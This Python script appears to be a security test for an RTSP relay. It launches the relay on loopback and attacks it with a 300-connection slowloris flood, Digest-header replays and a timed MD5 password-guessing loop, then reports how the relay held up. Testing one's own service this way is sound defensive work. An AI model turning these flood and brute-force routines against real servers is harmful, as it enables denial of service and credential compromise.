#!/usr/bin/env python3
"""Acts as an attacker against a pinhole-relay's RTSP port on loopback and prints what it got.

    rtsp_attack.py RELAY_DLL [--legacy-config]

Starts the relay (dotnet RELAY_DLL) on free loopback ports with one viewer, then:
  1. flood: 300 connections from 127.0.0.2 that never authenticate but send OPTIONS and an empty
     interleaved frame every 2 s (slowloris); counts how many the relay still holds after 5 s and
     after 20 s, and whether a viewer at 127.0.0.3 is still answered;
  2. replay: a right Digest header captured on one connection, sent again on another and again on
     the same one (404 means accepted: the camera does not exist, the credentials did);
  3. guessing: 10 s of Digest (MD5) guesses from 127.0.0.4, each on the connection's own nonce;
     counts the guesses the relay checked (401) and those it refused unchecked (503).
--legacy-config writes relay.json without the keys the older relay does not know.
Only 127.0.0.x is ever contacted.
"""
import hashlib, json, os, re, select, socket, subprocess, sys, tempfile, time

def free_port():
    s = socket.socket(); s.bind(("127.0.0.1", 0)); p = s.getsockname()[1]; s.close(); return p

def connect(port, src, timeout=5):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((src, 0)); s.settimeout(timeout); s.connect(("127.0.0.1", port)); return s

def request(s, method, url, cseq, headers=""):
    s.sendall(f"{method} {url} RTSP/1.0\r\nCSeq: {cseq}\r\n{headers}\r\n".encode())
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(4096)
        if not chunk: raise ConnectionError("closed")
        data += chunk
    head = data.split(b"\r\n\r\n", 1)[0].decode("latin-1")
    status = int(head.split(" ", 2)[1])
    return status, head

def digest(head, user, password, method, uri):
    for line in head.split("\r\n"):
        if line.lower().startswith("www-authenticate: digest") and "MD5" in line:
            realm = re.search(r'realm="([^"]*)"', line).group(1)
            nonce = re.search(r'nonce="([^"]*)"', line).group(1)
            h = lambda x: hashlib.md5(x.encode()).hexdigest()
            ha1, ha2, nc, cnonce = h(f"{user}:{realm}:{password}"), h(f"{method}:{uri}"), "00000001", "0a4f113b"
            resp = h(f"{ha1}:{nonce}:{nc}:{cnonce}:auth:{ha2}")
            return (f'Authorization: Digest username="{user}", realm="{realm}", nonce="{nonce}", uri="{uri}", '
                    f'algorithm=MD5, qop=auth, nc={nc}, cnonce="{cnonce}", response="{resp}"\r\n')
    raise RuntimeError("no MD5 challenge")

def main():
    dll, legacy = sys.argv[1], "--legacy-config" in sys.argv
    d = tempfile.mkdtemp(prefix="pinhole-attack-")
    http, rtsp = free_port(), free_port()
    cfg = {"http": f"http://127.0.0.1:{http}", "rtsp": f"127.0.0.1:{rtsp}", "dataDir": f"{d}/data",
           "viewers": [{"user": "alice", "password": "right-password"}]}
    open(f"{d}/relay.json", "w").write(json.dumps(cfg))
    relay = subprocess.Popen(["dotnet", dll, "--config", f"{d}/relay.json"], stdout=subprocess.DEVNULL, stderr=open(f"{d}/relay.log", "w"))
    try:
        for _ in range(300):
            try: connect(rtsp, "127.0.0.1", 1).close(); break
            except OSError: time.sleep(0.1)
        url = f"rtsp://127.0.0.1:{rtsp}/gw1/cam"
        # 1. flood
        socks = []
        for i in range(300):
            try: s = connect(rtsp, "127.0.0.2", 2); s.setblocking(False); socks.append(s)
            except OSError: pass
        opened = len(socks); start = time.time(); held = {}; n = 0
        while time.time() - start < 20.5:
            n += 1
            for s in list(socks):
                try:
                    s.send(f"OPTIONS {url} RTSP/1.0\r\nCSeq: {n}\r\n\r\n".encode() + b"$\x00\x00\x00")
                except OSError:
                    socks.remove(s); s.close(); continue
            deadline = time.time() + 2
            while time.time() < deadline:
                r, _, _ = select.select(socks, [], [], max(0, deadline - time.time()))
                for s in r:
                    try: data = s.recv(65536)
                    except OSError: data = b""
                    if not data: socks.remove(s); s.close()
            for mark in (5, 20):
                if mark not in held and time.time() - start >= mark: held[mark] = len(socks)
        try:
            v = connect(rtsp, "127.0.0.3", 5); st, _ = request(v, "OPTIONS", url, 1); v.close(); other = f"answered {st}"
        except OSError as e:
            other = f"refused ({e.__class__.__name__})"
        for s in socks: s.close()
        print(f"flood: opened {opened} from one address; held after 5 s: {held.get(5)}, after 20 s: {held.get(20)}; another address: {other}")
        time.sleep(1)
        # 2. replay (before the guessing, which locks the account for new addresses)
        a = connect(rtsp, "127.0.0.5", 5); st, head = request(a, "DESCRIBE", url, 1)
        hdr = digest(head, "alice", "right-password", "DESCRIBE", url)
        st1, _ = request(a, "DESCRIBE", url, 2, hdr)
        b = connect(rtsp, "127.0.0.6", 5); st2, head2 = request(b, "DESCRIBE", url, 1, hdr)
        st3, _ = request(a, "DESCRIBE", url, 3, hdr)
        print(f"replay: right header on its own connection {st1}; replayed on another connection {st2}{' (stale=true)' if 'stale=true' in head2 else ''}; replayed on the same connection {st3}")
        a.close(); b.close()
        # 3. guessing
        checked = refused = other_status = conns = 0; start = time.time(); cseq = 0
        s = None
        while time.time() - start < 10:
            try:
                if s is None: s = connect(rtsp, "127.0.0.4", 5); conns += 1
                cseq += 1; st, head = request(s, "DESCRIBE", url, cseq)
                if st != 401: other_status += 1; s.close(); s = None; continue
                cseq += 1; st, _ = request(s, "DESCRIBE", url, cseq, digest(head, "alice", f"guess{cseq}", "DESCRIBE", url))
                if st == 401: checked += 1
                elif st == 503: refused += 1
                else: other_status += 1
            except (OSError, ConnectionError):
                if s: s.close()
                s = None
        if s: s.close()
        print(f"guessing: 10 s from one address: {checked} guesses checked ({checked / 10:.1f}/s), {refused} refused unchecked, {conns} connections")
    finally:
        relay.terminate(); relay.wait(10)

if __name__ == "__main__":
    main()
